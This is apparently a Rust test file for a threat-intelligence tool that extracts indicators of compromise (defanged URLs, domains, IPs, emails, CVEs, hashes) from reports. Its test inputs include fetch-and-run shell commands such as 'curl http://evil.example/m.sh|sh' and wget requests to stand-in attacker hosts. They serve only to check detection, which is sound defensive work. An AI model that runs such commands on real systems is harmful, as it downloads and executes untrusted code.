use super::*;
use crate::stix::atom::Kind;
use proptest::prelude::*;

/// Values of a text that are indicators, in its order.
fn indicators(text: &str) -> Vec<String> {
    let body = find(text).into_iter().filter(|one| one.region == Region::Body);
    body.map(|one| spelling(&one.what)).collect()
}

fn spelling(what: &What) -> String {
    match what {
        What::Value(atom) => atom.text().to_owned(),
        What::Vulnerability(name) => name.clone(),
    }
}

fn regions(text: &str) -> Vec<(String, Region)> {
    find(text).into_iter().map(|one| (spelling(&one.what), one.region)).collect()
}

#[test]
fn only_the_most_specific_value_is_taken() {
    assert_eq!(
        indicators("http://evil.example/x and ceo@evil.example"),
        ["http://evil.example/x", "ceo@evil.example"]
    );
    assert_eq!(indicators("198.51.100.7:443, evil.example:443"), ["198.51.100.7", "evil.example"]);
    assert_eq!(
        indicators("https://urlscan.example/?q=198.51.100.7"),
        ["https://urlscan.example/?q=198.51.100.7"]
    );
}

#[test]
fn places_are_those_of_the_original_text() {
    let text = "Drop ev\u{200b}il[.]example — and h**p://bad(.)example/“";
    let found = find(text);
    let written: Vec<&str> = found.iter().map(|one| &text[one.at.clone()]).collect();
    assert_eq!(written, ["ev\u{200b}il[.]example", "h**p://bad(.)example/"]);
    assert!(found.iter().all(|one| one.is_defanged));
}

#[test]
fn hosts_without_scheme_and_with_a_path_are_urls() {
    assert_eq!(indicators("evil[.]com/gate.php"), ["http://evil.com/gate.php"]);
    assert_eq!(indicators("198[.]51[.]100[.]7:8080/a"), ["http://198.51.100.7:8080/a"]);
    assert_eq!(indicators("evil[.]com/bad[.]com"), ["evil.com", "bad.com"]);
    assert_eq!(indicators("evil[.]com/ and bad.example/"), ["http://evil.com/"]);
}

#[test]
fn live_values_beside_harmless_ones_are_references() {
    let text = "C2 is evil[.]example, see https://vendor.example/post and 198.51.100.7";
    assert_eq!(
        regions(text),
        [
            ("evil.example".to_owned(), Region::Body),
            ("https://vendor.example/post".to_owned(), Region::Reference),
            ("198.51.100.7".to_owned(), Region::Body),
        ]
    );
    assert_eq!(indicators("C2 is evil.example, see http://evil.example/x").len(), 2);
}

#[test]
fn furniture_is_told_apart() {
    let text = "From: a@cert.example\nTo: b@cert.example\nDate: today\n\nBlock evil.example\n\
        CVE: https://nvd.nist.gov/vuln/detail/CVE-2026-1234\nSee CVE-2026-1234. Questions to: soc@cert.example\n\n\
        Sources\n- https://vendor.example/post\n\n-- \nBob, https://cert.example/";
    assert_eq!(
        regions(text),
        [
            ("a@cert.example".to_owned(), Region::Header),
            ("b@cert.example".to_owned(), Region::Header),
            ("evil.example".to_owned(), Region::Body),
            ("https://nvd.nist.gov/vuln/detail/CVE-2026-1234".to_owned(), Region::Reference),
            ("CVE-2026-1234".to_owned(), Region::Body),
            ("soc@cert.example".to_owned(), Region::Footer),
            ("https://vendor.example/post".to_owned(), Region::Reference),
            ("https://cert.example/".to_owned(), Region::Footer),
        ]
    );
}

#[test]
fn headers_as_evidence_count() {
    let text = "Headers of the phishing message:\n\n  Received: from mx.evil.example ([198.51.100.7])\n  From: <info@evil.example>\n";
    assert_eq!(indicators(text), ["mx.evil.example", "198.51.100.7", "info@evil.example"]);
}

#[test]
fn names_after_other_schemes_stand_alone() {
    assert_eq!(
        indicators("tcp://evil.example:4444/x ldap://198.51.100.7:389/a"),
        ["evil.example", "198.51.100.7"]
    );
}

#[test]
fn numbers_of_lists_do_not_belong_to_values() {
    assert_eq!(indicators("1.evil[.]example\n2.bad[.]example\n"), ["evil.example", "bad.example"]);
    assert_eq!(indicators("1.evil.example\n2.evil.example\n"), ["1.evil.example", "2.evil.example"]);
}

#[test]
fn addresses_of_mail_are_read_in_all_habits() {
    for text in [
        "ceo@evil.com",
        "CEO[at]evil[dot]com",
        "ceo (at) evil (dot) com",
        "ceo at evil dot com",
        "<ceo@evil.com>",
        "mailto:ceo@evil.com",
        "to=ceo@evil.com",
        "'ceo@evil.com'",
        "ceo[@]evil.com",
    ] {
        assert_eq!(indicators(text), ["ceo@evil.com"], "{text}");
    }
    assert_eq!(indicators("o'neil+x=y@evil.com"), ["o'neil+x=y@evil.com"]);
    for text in ["it is hosted at evil dot com", "look at evil[.]com"] {
        assert_eq!(indicators(text), ["evil.com"], "{text}");
    }
    assert_eq!(indicators("git@host.example:x/y @user.name"), [""; 0]);
}

#[test]
fn scripts_without_blanks_end_values() {
    assert_eq!(
        indicators("请封锁evil.com和198.51.100.7，以及CVE-2026-1234。"),
        ["evil.com", "198.51.100.7", "CVE-2026-1234"]
    );
}

#[test]
fn kinds_are_told_by_their_names() {
    let text = "certificate SHA1: a9993e364706816aba3e25717850c26c9cd0d89d\nAS64496\nGB33 BUKB 2020 1555 5555 55\n\
        1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n2001:db8::/32";
    let kinds = find(text).into_iter().filter_map(|one| match one.what {
        What::Value(atom) => Some(atom.kind()),
        What::Vulnerability(_) => None,
    });
    let expected = [Kind::CertificateSha1, Kind::AsNumber, Kind::Iban, Kind::Wallet, Kind::Ipv6Network];
    assert_eq!(kinds.collect::<Vec<_>>(), expected);
}

/// Pieces that lead into every branch; texts of them are more hostile than random characters.
const PIECES: [&str; 64] = [
    "http",
    "hxxp",
    "h**p",
    "://",
    ":",
    "[:]",
    "//",
    "/",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "{",
    "}",
    "<",
    ">",
    ".",
    "[.]",
    "[.",
    ".]",
    "(dot)",
    " dot ",
    " at ",
    "@",
    "[at]",
    "com",
    "evil",
    "例え",
    "é",
    "\u{200b}",
    "．",
    "。",
    "\u{ad}",
    "1",
    "255",
    "198.51.100.7",
    "-",
    "_",
    "=",
    "=\n",
    "=3D",
    "\n",
    "\r\n",
    " ",
    "\t",
    "|",
    ",",
    ";",
    "AS",
    "CVE-2026-",
    "GB33",
    "2001:db8::",
    "::",
    "a9993e364706816aba3e25717850c26c9cd0d89d",
    "md5",
    "ja3",
    "From: ",
    "-- ",
    "References:",
    "&amp;",
    "Mozilla/",
    "version ",
    "96:",
];

proptest! {
    #[test]
    fn no_text_breaks_it_and_places_are_in_order(pieces in proptest::collection::vec(0..PIECES.len(), 0..40)) {
        let text: String = pieces.into_iter().map(|at| PIECES[at]).collect();
        let mut last = 0;
        for one in find(&text) {
            prop_assert!(text.get(one.at.clone()).is_some_and(|written| !written.is_empty()), "{text:?} {one:?}");
            prop_assert!(one.at.start >= last, "{text:?} {one:?}");
            last = one.at.end;
        }
    }

    #[test]
    fn no_characters_break_it(text in "\\PC{0,200}") {
        find(&text);
    }

    #[test]
    fn what_was_made_harmless_is_found_again(host in "[a-z][a-z0-9]{2,12}\\.(com|net|org|top)", path in "/[a-z0-9/]{1,20}[a-z]", how in 0..6_usize) {
        let dot = ["[.]", "(.)", "{.}", "[dot]", "(dot)", "."][how];
        let written = format!("see hxxp://{}{path}, please", host.replace('.', dot));
        prop_assert_eq!(indicators(&written), vec![format!("http://{host}{path}")]);
    }
}

#[test]
fn requests_hold_commands() {
    for text in [
        "/x?a=wget+http://evil.example/m.sh+-O+/tmp/m",
        "/x?a=wget%20http://evil.example/m.sh",
        "curl http://evil.example/m.sh|sh",
    ] {
        assert_eq!(indicators(text), ["http://evil.example/m.sh"], "{text}");
    }
    assert_eq!(indicators("\"robot/2.0 (+http://robot.example/about)\""), [""; 0]);
    assert_eq!(indicators("query (cache) 'evil.example/A/IN' denied"), ["evil.example"]);
}

#[test]
fn code_that_is_fetched_is_no_link() {
    for text in [
        "module host.example/x/y\n",
        "\thost.example/x/y v1.8.0\n",
        "go get host.example/x/y",
        "{ today: date.today }",
    ] {
        assert_eq!(indicators(text), [""; 0], "{text}");
    }
    assert_eq!(indicators("see evil.com/x/y, v1"), ["http://evil.com/x/y"]);
}

#[test]
fn rows_of_files_are_no_hosts() {
    assert_eq!(indicators("main.c font.cc lib.rs a.txt table.tm"), [""; 0]);
    assert_eq!(indicators("evil.com, main.exe, a.dll"), ["evil.com"]);
}

#[test]
fn cells_end_a_link_at_the_start_of_a_line() {
    assert_eq!(indicators("http://evil.example/a;url;skimmer"), ["http://evil.example/a"]);
    assert_eq!(indicators("http://evil.example/a;id=1"), ["http://evil.example/a;id=1"]);
}

#[test]
fn who_writes_stands_after_the_closing() {
    let text = "Block evil.example.\n\nKind regards,\nAda, ada@cert.example\n\nIndicators:\nbad.example\n";
    assert_eq!(indicators(text), ["evil.example", "bad.example"]);
    let text = "Block evil.example.\n____________\nThis message is confidential. ada@cert.example\n";
    assert_eq!(indicators(text), ["evil.example"]);
}

#[test]
fn contacts_of_those_who_sell_are_values() {
    for text in [
        "contact jabber: ada@chat.com",
        "Contact of the seller: ada@chat.com",
        "Kontakt: jabber ada@chat.com",
    ] {
        assert_eq!(indicators(text), ["ada@chat.com"], "{text}");
    }
    for text in ["Press contact: ada@cert.org", "Please report the seller to ada@cert.org"] {
        assert_eq!(indicators(text), [""; 0], "{text}");
    }
}

#[test]
fn links_of_one_owner_are_of_one_kind() {
    let text = "Pay at https://swindle.com/pay now.\nContact: https://help.swindle.com/chat\n";
    assert_eq!(indicators(text), ["https://swindle.com/pay", "https://help.swindle.com/chat"]);
    assert_eq!(
        indicators("Block https://evil.com/x.\nContact: https://cert.org/chat\n"),
        ["https://evil.com/x"]
    );
    let text = "Dear customer, sign in at https://login.swindle.com/de\n\nFor questions write to help@swindle.com.\n";
    assert_eq!(indicators(text), ["https://login.swindle.com/de", "help@swindle.com"]);
    let text = "Dear customer, they copied shop.com to https://swindle.com/x.\nQuestions to help@shop.com.\n";
    assert_eq!(indicators(text), ["shop.com", "https://swindle.com/x"]);
    let text = "The source is at https://x.tool.com/git\n\nPlease report bugs to help@tool.com.\n";
    assert_eq!(indicators(text), ["https://x.tool.com/git"]);
}

#[test]
fn no_place_is_within_a_character() {
    // What is looked at before a value is limited in bytes, and letters have two to four of them.
    let cores = [
        "0123456789abcdef0123\n   456789abcdef",
        "MD5 0123456789abcdef01 x\n23456789abcdef",
        "5.2.1.7",
        "v 10.2.0.1, 10.2.0.2",
        "hxxp://a[.]top/x",
        "doc@a[.]top",
        "a.top IN A 192.0.2.7",
    ];
    for letter in ["д", "中", "𝄞"] {
        for core in cores {
            for length in (0..700).step_by(7) {
                let pad = letter.repeat(length / letter.len());
                for text in [format!("{pad} {core}"), format!("x{pad}{core}{pad}"), format!("{core} {pad}")] {
                    assert!(find(&text).len() <= text.len());
                }
            }
        }
    }
}

#[test]
fn hostile_texts_take_linear_time() {
    // A pass that looks back over all that it has read would take hours here.
    const BYTES: usize = 300_000;
    for unit in [
        "a@",
        "a@a.",
        ".",
        "[.",
        "h",
        "http://",
        "http://[",
        "hxxp://a.b/",
        "1.2.3.4-",
        "1.",
        ":",
        "a:",
        "1:",
        "00:",
        "0123456789abcdef",
        "a dot ",
        "a [.] ",
        "DE89 ",
        "=\n",
        "a=\n",
        "a:\n",
        "From: a\n",
        "| ",
        "MD5 | SHA1 |\n",
        "96:aaaaaaaaa:b ",
        "\u{200b}",
        "中a",
        "_a_ ",
        "http://a.b/,",
        "a+",
        "5.2.1.7\n",
        "5.2.1.7 ",
        "5.2.1.7, ",
        "0123456789abcdef01234567 x\n",
        "a+http",
        "-- \n> --\n",
        "-- \nSubject: a\n",
        "=3D=C3=",
        "a.top IN A ",
        "a.top/IN/",
        "\\\\5.2.1.7",
    ] {
        let text = unit.repeat(BYTES / unit.len());
        assert!(find(&text).len() <= text.len());
    }
}
